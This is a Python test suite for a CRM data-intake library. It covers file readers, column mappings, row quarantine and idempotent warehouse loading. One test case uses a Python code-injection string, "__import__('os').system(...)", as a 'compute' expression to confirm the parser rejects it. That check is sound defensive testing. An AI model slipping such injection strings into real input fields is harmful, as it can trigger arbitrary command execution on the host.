"""Tests of crm_lib.intake.io: readers, mappings, quarantine, idempotent ingest, malformed inputs."""

from __future__ import annotations

import dataclasses
import json
import sqlite3
import tempfile
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crm_lib.contract import schemas
from crm_lib.datasets.dirt import line_keys
from crm_lib.intake import io
from crm_lib.intake.warehouse import connect

HEADER = (
    "Order No,Line,Customer ID,Order Date,Amount,Currency,Qty,SKU,Category,Channel,Original Order"
)
GOOD_ROWS = [
    "O1,1,C1,2024-03-05 14:22:01,100.50,CNY,1,P0001,home,web,",
    'O1,2,C1,2024-03-05 14:22:01,"1,234.50",CNY,2,P0002,beauty,app,',
    "O2,1,C2,05/03/2024,¥20.00,CNY,1,P0003,sports,store,",
    "R1,1,C2,2024年3月9日,-20.00,CNY,-1,P0003,sports,store,O2",
]


def orders_csv(*rows: str, header: str = HEADER) -> str:
    """An orders export: the good rows followed by ``rows``."""
    return "\n".join([header, *GOOD_ROWS, *rows]) + "\n"


def write(tmp_path: Path, text: str | bytes, name: str = "orders.csv", encoding="utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode(encoding))
    return path


def load(path: Path, mapping="simulated_world_orders", **kwargs) -> io.MappedTable:
    return io.apply_mapping(io.read_table(path, **kwargs), mapping, source=path.name)


# ---------------------------------------------------------------------- readers


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk"])
def test_read_csv_encodings(tmp_path, encoding):
    text = "Customer ID,Name,Region\n" + "".join(f"C{i},张伟{i},华北\n" for i in range(3))
    df = io.read_table(write(tmp_path, text, encoding=encoding))
    assert list(df.columns) == ["Customer ID", "Name", "Region"]
    assert df["Name"].tolist() == ["张伟0", "张伟1", "张伟2"]
    assert df.index.tolist() == [2, 3, 4]  # 1-based file lines, header is line 1


@pytest.mark.parametrize("sep", [",", ";", "\t", "|"])
def test_read_csv_sniffs_delimiter(tmp_path, sep):
    text = f"a{sep}b{sep}c\n1{sep}x y{sep}3\n4{sep}5{sep}\n"
    df = io.read_table(write(tmp_path, text))
    assert df.to_dict("list") == {"a": ["1", "4"], "b": ["x y", "5"], "c": ["3", ""]}


def test_western_text_not_mistaken_for_gbk(tmp_path):
    # 'ü' + 'l' is a valid GB18030 byte pair: the GB2312-share check must reject it.
    text = "Name,City\n" + "".join(f"Müller{i},Köln\n" for i in range(50))
    df = io.read_table(write(tmp_path, text, encoding="cp1252"))
    assert df["Name"].iloc[0] == "Müller0" and df["City"].iloc[0] == "Köln"


def test_read_csv_keeps_text(tmp_path):
    df = io.read_table(write(tmp_path, "id,zip,flag,n\n007,00123,NA,1e3\n"))
    assert df.iloc[0].tolist() == ["007", "00123", "NA", "1e3"]


def test_read_excel_parquet_jsonl(tmp_path):
    frame = pd.DataFrame({"id": ["007", "8"], "amount": [1.5, None]})
    frame.to_excel(tmp_path / "t.xlsx", index=False)
    frame.to_parquet(tmp_path / "t.parquet")
    (tmp_path / "t.jsonl").write_text(
        "\n".join(json.dumps(r) for r in frame.to_dict("records")), encoding="utf-8"
    )
    xl = io.read_table(tmp_path / "t.xlsx")
    assert xl.index.tolist() == [2, 3] and xl.loc[3, "amount"] == ""
    pq = io.read_table(tmp_path / "t.parquet")
    assert pq["id"].tolist() == ["007", "8"] and pq.loc[2, "amount"] == ""
    js = io.read_table(tmp_path / "t.jsonl")
    assert js["amount"].tolist() == ["1.5", ""] and js.index.tolist() == [1, 2]


def test_read_excel_sheet(tmp_path):
    with pd.ExcelWriter(tmp_path / "t.xlsx") as xw:
        pd.DataFrame({"a": [1]}).to_excel(xw, sheet_name="one", index=False)
        pd.DataFrame({"b": [2]}).to_excel(xw, sheet_name="two", index=False)
    assert list(io.read_table(tmp_path / "t.xlsx", sheet="two").columns) == ["b"]
    with pytest.raises(io.ReadError, match=r"t\.xlsx: no sheet 'three'"):
        io.read_table(tmp_path / "t.xlsx", sheet="three")


def test_read_sql(tmp_path):
    db = tmp_path / "crm.db"
    with sqlite3.connect(db) as con:
        con.execute("create table t (id text, amount real)")
        con.executemany("insert into t values (?, ?)", [("007", 1.5), ("8", None)])
    df = io.read_sql("select * from t order by id", f"sqlite:///{db}")
    assert df.to_dict("list") == {"id": ["007", "8"], "amount": ["1.5", ""]}
    assert df.index.tolist() == [1, 2]
    with pytest.raises(io.ReadError, match=r"query failed \(no such table: nope\)"):
        io.read_sql("select * from nope", f"sqlite:///{db}")
    with pytest.raises(io.ReadError, match="invalid database URL"):
        io.read_sql("select 1", "notadialect://x")


def test_read_sql_masks_password():
    with pytest.raises(io.ReadError) as err:
        io.read_sql("select 1", "postgresql+nosuchdriver://me:secret@host/db")
    assert "secret" not in str(err.value)


# --------------------------------------------------------------------- mappings


def test_shipped_mappings_load():
    names = io.available_mappings()
    assert {"simulated_world_customers", "simulated_world_orders"} <= set(names)
    assert len(names) >= 4
    for name in names:
        m = io.load_mapping(name)
        assert m.table in schemas.SCHEMAS and m.version


def test_apply_mapping_types(tmp_path):
    mt = load(write(tmp_path, orders_csv()))
    data = mt.data
    assert len(mt.quarantine) == 0 and mt.reconciliation.rows_accepted == 4
    assert data["amount"].tolist() == [100.5, 1234.5, 20.0, -20.0]
    # 2024-03-05 14:22:01 Asia/Shanghai = 06:22:01 UTC; 05/03/2024 is day-first.
    assert data["ordered_at"].iloc[0] == pd.Timestamp("2024-03-05 06:22:01", tz="UTC")
    assert data["ordered_at"].iloc[2] == pd.Timestamp("2024-03-04 16:00", tz="UTC")
    assert data["original_order_id"].isna().tolist() == [True, True, True, False]
    schemas.validate(data, "transactions")


def test_unpacks_as_data_and_quarantine(tmp_path):
    data, quarantine = load(write(tmp_path, orders_csv()))
    assert len(data) == 4 and quarantine.empty


def test_mapping_errors():
    with pytest.raises(
        io.MappingError, match="no shipped mapping 'simulated_world_order'.*did you"
    ):
        io.load_mapping("simulated_world_order")
    with pytest.raises(io.MappingError, match="not in contract table 'transactions'.*'amount'"):
        io.load_mapping({"name": "x", "table": "transactions", "columns": {"amont": "A"}})
    with pytest.raises(io.MappingError, match=r"neither mapped nor constant"):
        io.load_mapping({"name": "x", "table": "transactions", "columns": {"amount": "A"}})
    with pytest.raises(io.MappingError, match="unknown contract table"):
        io.load_mapping({"name": "x", "table": "orders", "columns": {}})


def test_mapping_yaml_file(tmp_path):
    (tmp_path / "bad.yml").write_text("name: [unclosed\n", encoding="utf-8")
    with pytest.raises(io.MappingError, match=r"bad\.yml: not valid YAML"):
        io.load_mapping(tmp_path / "bad.yml")


def test_shopify_example(tmp_path):
    # Shopify's order export has one row per line item: "Lineitem price" is the unit
    # price, "Lineitem quantity" the units and "Lineitem discount" the discount on the
    # whole line, so the net line amount is price x quantity - discount.
    text = (
        "Name,Email,Financial Status,Paid at,Created at,Currency,Lineitem quantity,"
        "Lineitem name,Lineitem price,Lineitem sku,Lineitem discount,Lineitem category,Source\n"
        "#1001,a@example.com,paid,2024-03-05 14:22:01 +0800,2024-03-05 14:22:01 +0800,USD,2,"
        "Tee,19.99,TEE-1,0.00,Apparel,web\n"
        "#1001,a@example.com,,,2024-03-05 14:22:01 +0800,USD,3,Mug,"
        '"$1,200.00",MUG-1,100.00,Home,web\n'
        "#1002,b@example.com,paid,,2024-03-06 09:00:00 +0000,USD,1,Mug,9.00,MUG-1,0.00,,pos\n"
    )
    mt = load(write(tmp_path, text), "shopify_orders")
    assert mt.data["line_no"].tolist() == [1, 2]
    # 19.99 x 2 - 0.00 = 39.98; 1,200.00 x 3 - 100.00 = 3,500.00
    assert mt.data["amount"].tolist() == pytest.approx([39.98, 3500.0], abs=1e-9)
    assert mt.data["quantity"].tolist() == [2, 3]
    assert mt.data["ordered_at"].iloc[0] == pd.Timestamp("2024-03-05 06:22:01", tz="UTC")
    assert mt.quarantine["rule"].tolist() == ["required"]  # #1002 has no category
    assert "Financial Status" in mt.extra_columns
    assert io.load_mapping("shopify_orders").version == "2"  # amounts changed meaning


def test_row_numbers_within_several_columns(tmp_path):
    """One order per customer and day (as CDNOW's log is read): lines numbered within both."""
    text = (
        "Customer,Day,SKU,Amount\n"
        "c1,2024-03-05,A,1\nc1,2024-03-05,B,1\nc2,2024-03-05,A,1\nc1,2024-03-06,C,1\n"
    )
    mapping = {
        "name": "two_keys",
        "table": "transactions",
        "columns": {
            "order_id": {"source": ["Customer", "Day"], "join": "-"},
            "line_no": {"type": "row_number", "group_by": ["Customer", "Day"]},
            "customer_id": "Customer",
            "ordered_at": {"source": "Day", "type": "datetime", "formats": ["%Y-%m-%d"]},
            "amount": {"source": "Amount", "type": "number"},
            "product_id": "SKU",
        },
        "constants": {"currency": "USD", "quantity": 1, "category": "home", "channel": "web"},
    }
    mt = load(write(tmp_path, text), mapping)
    assert mt.quarantine.empty, mt.quarantine[["rule", "reason"]].to_string()
    assert mt.data["order_id"].tolist() == [
        "c1-2024-03-05", "c1-2024-03-05", "c2-2024-03-05", "c1-2024-03-06"
    ]  # fmt: skip
    assert mt.data["line_no"].tolist() == [1, 2, 1, 1]


def _compute_mapping(expr, **rule):
    columns = {
        "order_id": "Order",
        "line_no": {"type": "row_number", "group_by": "Order"},
        "customer_id": "Customer",
        "ordered_at": {"source": "Date", "type": "datetime", "formats": ["%Y-%m-%d"]},
        "amount": {"compute": expr, **rule},
        "currency": "Currency",
        "quantity": {"source": "Qty", "type": "integer"},
        "product_id": "SKU",
        "category": "Category",
        "channel": "Channel",
    }
    return {"name": "computed", "table": "transactions", "columns": columns}


COMPUTE_HEADER = "Order,Customer,Date,Currency,Qty,SKU,Category,Channel,Unit price,Fee-EUR,Disc"


def _compute_rows(*rows: str) -> str:
    return (
        COMPUTE_HEADER + "\n" + "".join(f"O{i},C1,2024-03-05,CNY,{r}\n" for i, r in enumerate(rows))
    )


@pytest.mark.parametrize(
    ("expr", "expected"),
    [
        # worked by hand on the row Qty=4, Unit price=2.50, Fee-EUR=1.5, Disc=3
        ("Unit price * Qty - Disc", 4 * 2.50 - 3),  # 7.0
        ("(Unit price - Disc / Qty) * Qty", (2.50 - 3 / 4) * 4),  # 7.0
        ("Unit price * Qty + `Fee-EUR`", 2.50 * 4 + 1.5),  # 11.5: quoted name with a '-'
        ("-Disc + 2 * Unit price * Qty", -3 + 2 * 2.50 * 4),  # 17.0
        ("Qty * 0.5e1 / 2", 4 * 5 / 2),  # 10.0
    ],
)
def test_computed_amount(tmp_path, expr, expected):
    text = _compute_rows("4,P1,home,web,2.50,1.5,3")
    mt = load(write(tmp_path, text), _compute_mapping(expr, thousands=","))
    assert mt.quarantine.empty, mt.quarantine[["rule", "reason"]].to_string()
    assert mt.data["amount"].tolist() == pytest.approx([expected], abs=1e-12)


def test_computed_amount_quarantines_bad_operands(tmp_path):
    text = _compute_rows(
        '2,P1,home,web,"¥1,000.50",0,0',  # (1000.50 - 0 / 2) * 2 = 2001.0
        "2,P1,home,web,abc,0,0",  # not a number
        "2,P1,home,web,3.00,0,",  # empty discount
        "0,P1,home,web,3.00,0,0",  # division by zero (Qty = 0)
    )
    mapping = _compute_mapping(
        "(Unit price - Disc / Qty) * Qty", thousands=",", currency_symbols=["¥"]
    )
    mt = load(write(tmp_path, text), mapping)
    assert mt.data["amount"].tolist() == [2001.0]
    got = {(r.row, r.rule): r.reason for r in mt.quarantine.itertuples()}
    assert got[(3, "number")] == (
        "amount: 'abc' is not a number (expected digits with decimal '.', thousands "
        "separator ',', currency symbols ¥)"
    )
    assert got[(4, "compute")] == (
        "amount: 'Disc' is empty; it is needed to compute (Unit price - Disc / Qty) * Qty"
    )
    assert got[(5, "compute")] == "amount: division by zero in (Unit price - Disc / Qty) * Qty"


@pytest.mark.parametrize(
    ("expr", "pattern"),
    [
        ("__import__('os').system('echo hi')", r"column amount: cannot read compute .*'\('"),
        ("Unit price ** Qty", r"cannot read compute.*'\*'"),
        ("Unit price * (Qty - Disc", r"cannot read compute.*missing '\)'"),
        ("Unit price * Nope", r"missing required column\(s\) for mapping 'computed': 'Nope'"),
        ("", r"column amount: 'compute' is empty"),
    ],
)
def test_compute_rejects_what_is_not_arithmetic(tmp_path, expr, pattern):
    path = write(tmp_path, _compute_rows("4,P1,home,web,2.50,1.5,3"))
    with pytest.raises(io.MappingError, match=pattern):
        load(path, _compute_mapping(expr))


def test_salesforce_example(tmp_path):
    text = (
        "Contact ID,First Name,Last Name,Email,Mobile,Created Date,Mailing State/Province,"
        "Lead Source,Email Opt Out\n"
        "003A,Wei,Zhang,w@example.com,+8613800000000,3/5/2024 2:22 PM,Beijing,Web,0\n"
        "003B,,Li,l@example.com,,2024-03-06,Zhejiang,Partner Referral,1\n"
    )
    mt = load(write(tmp_path, text), "salesforce_contacts")
    data = mt.data
    assert data["name"].tolist() == ["Wei Zhang", "Li"]
    assert data["marketing_consent"].tolist() == [True, False]
    assert data["region"].tolist() == ["north", "east"]
    assert data["gender"].tolist() == ["unknown", "unknown"]


# --------------------------------------------------- ingest on the simulated world


@pytest.fixture(scope="module")
def world_exports(tmp_path_factory):
    from crm_lib.datasets import simulate
    from crm_lib.datasets.dirt import write_raw_exports

    world = simulate(300, seed=3)
    folder = tmp_path_factory.mktemp("world")
    paths = write_raw_exports(world.raw, folder / "exports")
    return world, paths, folder


@pytest.fixture(scope="module")
def ingested(world_exports):
    world, paths, folder = world_exports
    db = folder / "warehouse" / "crm.duckdb"
    first = {
        "customers": io.ingest(
            paths["customers_export"], "simulated_world_customers", warehouse=db
        ),
        "transactions": io.ingest(paths["orders_export"], "simulated_world_orders", warehouse=db),
    }
    second = {
        "customers": io.ingest(
            paths["customers_export"], "simulated_world_customers", warehouse=db
        ),
        "transactions": io.ingest(paths["orders_export"], "simulated_world_orders", warehouse=db),
    }
    return world, paths, db, first, second


def test_world_reconciles(ingested):
    world, _, db, first, _ = ingested
    raw_rows = {"customers": "customers_export", "transactions": "orders_export"}
    for table, res in first.items():
        lin = res.lineage
        assert res.status == "loaded"
        assert lin["rows_in"] == len(world.raw[raw_rows[table]])
        assert lin["rows_in"] == lin["rows_accepted"] + lin["rows_quarantined"]
    # the orders export is dirty on purpose; the customers' blank regions and sources are
    # kept as 'unknown' (missing-value policy), so no customer is quarantined
    assert first["transactions"].lineage["rows_quarantined"] > 0
    assert first["customers"].lineage["rows_quarantined"] == 0
    with connect(db) as con:
        for table, res in first.items():
            n = con.execute(f"select count(*) from {table}").fetchone()[0]
            assert n == res.lineage["rows_accepted"]
        q = con.execute("select count(distinct (source, row)) from quarantine").fetchone()[0]
        assert q == sum(r.lineage["rows_quarantined"] for r in first.values())


def test_world_gbk_names_read_correctly(ingested):
    world, _, db, first, _ = ingested
    raw = world.raw["customers_export"].set_index("Customer ID")
    data = first["customers"].data.set_index("customer_id")
    assert data["name"].str.contains(r"[\u4e00-\u9fff]").any()
    assert (data["name"] == raw.loc[data.index, "Name"]).all()


def test_world_idempotent(ingested):
    _, paths, db, first, second = ingested
    for res in second.values():
        assert res.status == "skipped: already loaded" and res.data.empty
    with connect(db) as con:
        lineage = con.sql("select * from lineage order by loaded_at").to_arrow_table().to_pandas()
        counts = {t: con.execute(f"select count(*) from {t}").fetchone()[0] for t in first}
    assert lineage["status"].tolist() == ["loaded"] * 2 + ["skipped: already loaded"] * 2
    assert lineage["sha256"].iloc[0] == io.file_sha256(paths["customers_export"])
    assert lineage["mapping"].tolist()[:2] == [
        "simulated_world_customers",
        "simulated_world_orders",
    ]
    assert str(lineage["loaded_at"].dtype).endswith("UTC]")
    assert counts == {t: r.lineage["rows_accepted"] for t, r in first.items()}


def _orders_mapping(formats: list[str]) -> dict:
    import yaml

    path = io._MAPPINGS_DIR / "simulated_world_orders.yml"
    spec = yaml.safe_load(path.read_text(encoding="utf-8"))
    spec["columns"]["ordered_at"]["formats"] = formats
    return spec


def _table(db: Path, sql: str) -> pd.DataFrame:
    with connect(db) as con:
        return con.sql(sql).to_arrow_table().to_pandas()


def test_reload_after_fixing_the_mapping_replaces_the_old_load(tmp_path):
    path = write(tmp_path, orders_csv())
    db = io.start_warehouse(tmp_path / "crm.duckdb", world="w")
    # The broken mapping knows one date format only: of the four good rows, lines 2 and 3
    # ("2024-03-05 14:22:01") pass, line 4 ("05/03/2024") and line 5 ("2024年3月9日") are
    # quarantined. The fixed mapping (same name, same version 1) reads all four.
    broken = _orders_mapping(["%Y-%m-%d %H:%M:%S"])
    fixed = _orders_mapping(["%Y-%m-%d %H:%M:%S", "%d/%m/%Y", "%Y年%m月%d日"])
    first = io.ingest(path, broken, warehouse=db)
    assert (first.lineage["rows_accepted"], first.lineage["rows_quarantined"]) == (2, 2)
    again = io.ingest(path, broken, warehouse=db)  # same file, same mapping: nothing to do
    assert again.status == "skipped: already loaded"
    second = io.ingest(path, fixed, warehouse=db)
    assert second.status == "loaded"
    assert (second.lineage["rows_accepted"], second.lineage["rows_quarantined"]) == (4, 0)
    assert "mapping changed" in second.lineage["note"]
    assert first.lineage["load_id"] in second.lineage["note"]
    lines = _table(db, "select * from transactions order by row")
    assert lines["row"].tolist() == [2, 3, 4, 5]  # each source line once
    assert set(lines["load_id"]) == {second.lineage["load_id"]}
    assert _table(db, "select * from quarantine").empty  # the old load's records are gone
    lineage = _table(db, "select * from lineage order by loaded_at")
    assert lineage["status"].tolist() == [
        f"replaced by {second.lineage['load_id']}",
        "skipped: already loaded",
        "loaded",
    ]
    assert lineage["mapping_sha256"].iloc[0] != lineage["mapping_sha256"].iloc[2]
    assert io.ingest(path, fixed, warehouse=db).status == "skipped: already loaded"
    files = {"transactions": path}
    got = io.read_loads(db, files, world="w", mappings={"transactions": fixed})
    assert got["transactions"].data.index.tolist() == [2, 3, 4, 5]
    assert io.read_loads(db, files, world="w", mappings={"transactions": broken}) is None


def test_reload_with_another_vocabulary_replaces_the_old_load(tmp_path):
    path = write(tmp_path, orders_csv())
    db = tmp_path / "crm.duckdb"
    # Without 'beauty' among the categories, line 3 (O1/2, beauty) fails the contract;
    # declared, all four lines pass. The mapping is the same both times.
    narrow = {"category": ["home", "sports"]}
    wide = {"category": ["home", "sports", "beauty"]}
    first = io.ingest(path, "simulated_world_orders", warehouse=db, vocabulary=narrow)
    assert (first.lineage["rows_accepted"], first.lineage["rows_quarantined"]) == (3, 1)
    second = io.ingest(path, "simulated_world_orders", warehouse=db, vocabulary=wide)
    assert second.status == "loaded"
    assert (second.lineage["rows_accepted"], second.lineage["rows_quarantined"]) == (4, 0)
    assert "vocabulary changed" in second.lineage["note"]
    assert _table(db, "select row from transactions order by row")["row"].tolist() == [2, 3, 4, 5]
    again = io.ingest(path, "simulated_world_orders", warehouse=db, vocabulary=dict(wide))
    assert again.status == "skipped: already loaded"


def test_two_concurrent_loads_keep_all_rows(tmp_path, monkeypatch):
    import threading

    from crm_lib.intake import warehouse

    # Two exports with different orders, loaded into one warehouse at the same time.
    a = write(tmp_path, orders_csv(), name="a.csv")  # 4 lines: O1/1, O1/2, O2/1, R1/1
    b = write(
        tmp_path,
        "\n".join(
            [
                HEADER,
                "B1,1,C1,2024-03-05 14:22:01,10.00,CNY,1,P0001,home,web,",
                "B2,1,C2,2024-03-05 14:22:01,20.00,CNY,1,P0002,home,web,",
            ]
        )
        + "\n",
        name="b.csv",
    )
    db = io.start_warehouse(tmp_path / "crm.duckdb", world="w")
    # Make the race certain: a load may publish only once both loads are ready to, so
    # if each read the warehouse before either wrote, the second write drops the first
    # load's rows. A load that serialises its read-modify-write never has both ready:
    # its wait times out and it goes on.
    ready = threading.Barrier(2, timeout=2)
    real_write = warehouse.write_tables

    def write_when_both_ready(tables, path=None, **kwargs):
        if "transactions" in tables:
            try:
                ready.wait()
            except threading.BrokenBarrierError:
                pass
        return real_write(tables, path, **kwargs)

    monkeypatch.setattr(warehouse, "write_tables", write_when_both_ready)
    results, errors = {}, []

    def load_file(path):
        try:
            results[path.name] = io.ingest(path, "simulated_world_orders", warehouse=db)
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=load_file, args=(p,)) for p in (a, b)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert not errors, errors
    assert {r.status for r in results.values()} == {"loaded"}
    lines = _table(db, "select order_id, line_no from transactions order by order_id, line_no")
    assert list(lines.itertuples(index=False, name=None)) == [
        ("B1", 1),
        ("B2", 1),
        ("O1", 1),
        ("O1", 2),
        ("O2", 1),
        ("R1", 1),
    ]
    lineage = _table(db, "select source, status from lineage order by source")
    assert lineage.to_numpy().tolist() == [["a.csv", "loaded"], ["b.csv", "loaded"]]
    # the same file twice at once: loaded once, the other load sees it and skips
    ready.reset()
    results.clear()
    threads = [
        threading.Thread(
            target=lambda n=n: results.update(
                {n: io.ingest(a, "simulated_world_orders", warehouse=tmp_path / "two.duckdb")}
            )
        )
        for n in (1, 2)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert sorted(r.status for r in results.values()) == ["loaded", "skipped: already loaded"]
    assert len(_table(tmp_path / "two.duckdb", "select * from transactions")) == 4


def test_same_rows_in_another_file_are_not_loaded_twice(ingested, tmp_path):
    _, paths, db, first, _ = ingested
    text = paths["orders_export"].read_text(encoding="utf-8-sig")
    copy = write(tmp_path, text + "\n", name="orders_again.csv")  # other bytes, same rows
    with pytest.warns(io.QuarantineWarning, match=r"already in the warehouse from another file"):
        res = io.ingest(copy, "simulated_world_orders", warehouse=db)
    assert res.lineage["rows_accepted"] == 0 and res.status == "all quarantined"
    assert (res.quarantine["rule"] == "already_loaded").sum() == first["transactions"].lineage[
        "rows_accepted"
    ]


def test_world_planted_problems_not_dropped(ingested):
    world, _, _, first, _ = ingested
    dirty = world.truth.dirty_records
    orders = first["transactions"]
    raw = world.raw["orders_export"]
    raw_key = raw["Order No"] + "/" + raw["Line"]
    q = orders.quarantine
    q_keys = set(raw_key.iloc[q["row"].to_numpy() - 2])
    accepted = line_keys(orders.data)
    # negative_without_order: quarantined by the contract rule on returns.
    neg = set(dirty.loc[dirty["kind"] == "negative_without_order", "key"])
    assert neg and neg <= q_keys and not neg & accepted
    reasons = q.loc[q["rule"].str.contains("original_order_id"), "row"]
    assert set(raw_key.iloc[reasons.to_numpy() - 2]) == neg
    # outlier: valid under the contract, accepted unchanged (the cleaning study flags them).
    out = dirty.loc[dirty["kind"] == "outlier"]
    assert len(out) and set(out["key"]) <= accepted
    # duplicate_line: the copy is quarantined, the original kept.
    dup = set(dirty.loc[dirty["kind"] == "duplicate_line", "key"])
    assert dup <= accepted
    assert (q["rule"] == "duplicate_key").sum() == len(dup)
    # missing Category: kept, with category 'unknown' (missing-value policy).
    miss = dirty.loc[(dirty["kind"] == "missing_value") & (dirty["table"] == "orders"), "key"]
    unknown = orders.data[orders.data["category"] == "unknown"]
    assert set(miss) == line_keys(unknown) and not set(miss) & q_keys


def test_world_customers_quarantine_reasons(ingested):
    world, _, _, first, _ = ingested
    dirty = world.truth.dirty_records
    cust = first["customers"]
    missing = dirty.loc[(dirty["table"] == "customers") & (dirty["kind"] == "missing_value"), "key"]
    # an empty Region or Source keeps the customer, as 'unknown' (missing-value policy)
    assert cust.quarantine.empty
    data = cust.data.set_index("customer_id")
    unknown = data[(data["region"] == "unknown") | (data["acquisition_channel"] == "unknown")]
    assert set(missing) == set(unknown.index)


# ---------------------------------------------------------------- malformed corpus


def _gbk(tmp_path):
    text = orders_csv("O9,1,C9,2024-03-05 14:22:01,1,CNY,1,张,home,web,").replace("¥", "")
    return write(tmp_path, text, encoding="gbk")


ERRORS = [
    # (id, file name, content, read kwargs, exception, message pattern)
    ("missing_file", None, None, {}, io.ReadError, r"nofile\.csv: file not found"),
    ("empty_file", "e.csv", b"", {}, io.ReadError, r"e\.csv: empty file"),
    ("blank_file", "e.csv", b"  \n\n ", {}, io.ReadError, r"e\.csv: empty file"),
    ("bom_only", "e.csv", b"\xef\xbb\xbf\n", {}, io.ReadError, r"e\.csv: empty file"),
    ("nul_bytes", "b.csv", b"a,b\n\x00\x01\x02", {}, io.ReadError, "NUL bytes: a binary file"),
    ("wrong_encoding", "g.csv", "gbk", {"encoding": "utf-8"}, io.ReadError, r"not valid utf-8"),
    (
        "undetectable_encoding",
        "u.csv",
        b"a,b\n" + bytes(range(0x80, 0x100)) * 4,
        {},
        io.ReadError,
        r"u\.csv: cannot detect the text encoding.*pass encoding=",
    ),
    (
        "unknown_encoding",
        "o.csv",
        orders_csv(),
        {"encoding": "klingon"},
        io.ReadError,
        "unknown encoding 'klingon'",
    ),
    (
        "unclosed_quote",
        "q.csv",
        orders_csv('O9,1,C9,"2024-03-05,1'),
        {},
        io.ReadError,
        r"q\.csv: malformed CSV",
    ),
    ("no_header_names", "h.csv", ",,\n1,2,3\n", {}, io.ReadError, "no column names"),
    ("duplicate_header", "d.csv", "a,a\n1,2\n", {}, io.ReadError, r"duplicate column name.*'a'"),
    (
        "bad_excel",
        "x.xlsx",
        b"this is not a workbook",
        {},
        io.ReadError,
        r"x\.xlsx: unreadable Excel",
    ),
    (
        "bad_parquet",
        "x.parquet",
        b"PAR1 garbage",
        {},
        io.ReadError,
        r"x\.parquet: unreadable Parquet",
    ),
    (
        "bad_jsonl",
        "x.jsonl",
        '{"a": 1}\n{"a": \n',
        {},
        io.ReadError,
        r"x\.jsonl: line 2 is not valid JSON",
    ),
    ("jsonl_not_object", "x.jsonl", "[1, 2]\n", {}, io.ReadError, "line 1 is not a JSON object"),
    (
        "missing_column",
        "m.csv",
        orders_csv(header=HEADER.replace(",Amount", ",Total")),
        {},
        io.MappingError,
        r"m\.csv: missing required column\(s\).*'Amount'",
    ),
    (
        "renamed_column",
        "r.csv",
        orders_csv(header=HEADER.replace("Order No", "Order_No")),
        {},
        io.MappingError,
        r"'Order No' \(did you mean 'Order_No'\?\)",
    ),
    (
        "lowercase_column",
        "r.csv",
        orders_csv(header=HEADER.replace("Qty", "qty")),
        {},
        io.MappingError,
        r"'Qty' \(did you mean 'qty'\?\)",
    ),
    (
        "wrong_delimiter_given",
        "s.csv",
        orders_csv(),
        {"sep": ";"},
        io.MappingError,
        r"missing required column",
    ),
]


@pytest.mark.parametrize(
    ("name", "content", "kwargs", "exc", "pattern"),
    [pytest.param(*case[1:], id=case[0]) for case in ERRORS],
)
def test_malformed_raises_crm_error(tmp_path, name, content, kwargs, exc, pattern):
    if content is None:
        path = tmp_path / "nofile.csv"
    elif content == "gbk":
        path = _gbk(tmp_path)
    else:
        path = write(tmp_path, content, name=name)
    with pytest.raises(exc, match=pattern):
        load(path, **kwargs)


BAD = "O9,1,C9,2024-03-05 14:22:01,10.00,CNY,1,P0009,home,web,"


def bad(**fields: str) -> str:
    """The BAD row with some fields replaced."""
    cols = HEADER.split(",")
    values = BAD.split(",")
    for k, v in fields.items():
        values[cols.index(k.replace("_", " "))] = v
    return ",".join(values)


QUARANTINED = [
    # (id, extra rows, rule pattern, reason pattern)
    (
        "impossible_date",
        [bad(Order_Date="2024-13-45")],
        "date",
        r"'2024-13-45' is not a date \(expected %Y-%m-%d %H:%M:%S or",
    ),
    (
        "date_hint_names_mapping",
        [bad(Order_Date="2024-13-45")],
        "date",
        r"local time Asia/Shanghai; or add the format to simulated_world_orders\.yml\)",
    ),
    ("misplaced_thousands", [bad(Amount='"12,34"')], "number", "'12,34' is not a number"),
    ("feb_30", [bad(Order_Date="2024-02-30 10:00:00")], "date", "is not a date"),
    ("text_date", [bad(Order_Date="yesterday")], "date", "'yesterday' is not a date"),
    ("text_amount", [bad(Amount="abc")], "number", "'abc' is not a number"),
    ("two_decimal_points", [bad(Amount="12.3.4")], "number", "is not a number"),
    ("dollar_amount", [bad(Amount="$12")], "number", r"currency symbols ¥￥"),
    ("fractional_qty", [bad(Qty="1.5")], "integer", "'1.5' is not a whole number"),
    ("text_qty", [bad(Qty="two")], "integer", "'two' is not a number"),
    ("huge_qty", [bad(Qty="1e30")], "integer", "too large"),
    (
        "negative_without_order",
        [bad(Amount="-10.00", Qty="-1")],
        "contract:a negative amount must reference",
        "fails the contract check",
    ),
    ("huge_amount", [bad(Amount="999999999")], r"contract:abs\(amount\)", "999999999"),
    ("duplicate_exact", [BAD, BAD], "duplicate_key", r"O9/1 already on row 6 \(exact copy\)"),
    ("duplicate_conflict", [BAD, bad(Amount="11.00")], "duplicate_key", "conflicting values"),
    ("missing_customer", [bad(Customer_ID="")], "required", "customer_id is empty"),
    ("missing_date", [bad(Order_Date="")], "required", "ordered_at is empty"),
    ("unknown_category", [bad(Category="toys")], "contract:isin", "'toys' fails"),
    ("unknown_channel", [bad(Channel="fax")], "contract:isin", "'fax' fails"),
    ("bad_currency", [bad(Currency="cny1")], "contract:str_matches", "'cny1'"),
    ("line_zero", [bad(Line="0")], "contract:greater_than_or_equal_to", "line_no"),
    ("short_row", ["O9,1,C9"], "short_row", "fewer fields"),
    ("long_row", [BAD + ",extra"], "long_row", "more fields than the header"),
    (
        "unquoted_thousands",
        ["O9,1,C9,2024-03-05 14:22:01,1,234.50,CNY,1,P0009,home,web,"],
        "long_row",
        "unquoted delimiter",
    ),
    (
        "return_without_negative",
        [bad(Original_Order="O1")],
        "contract:a negative amount must reference",
        "contract check",
    ),
    ("long_id", [bad(Order_No="O" * 80)], "contract:str_length", "str_length"),
]


@pytest.mark.parametrize(
    ("rows", "rule", "reason"), [pytest.param(*c[1:], id=c[0]) for c in QUARANTINED]
)
def test_malformed_rows_quarantined(tmp_path, rows, rule, reason):
    mt = load(write(tmp_path, orders_csv(*rows)))
    q = mt.quarantine
    assert mt.reconciliation.rows_in == len(GOOD_ROWS) + len(rows)
    assert mt.reconciliation.rows_in == len(mt.data) + q["row"].nunique()
    assert set(mt.data.index) >= {2, 3, 4, 5}  # the good rows survive
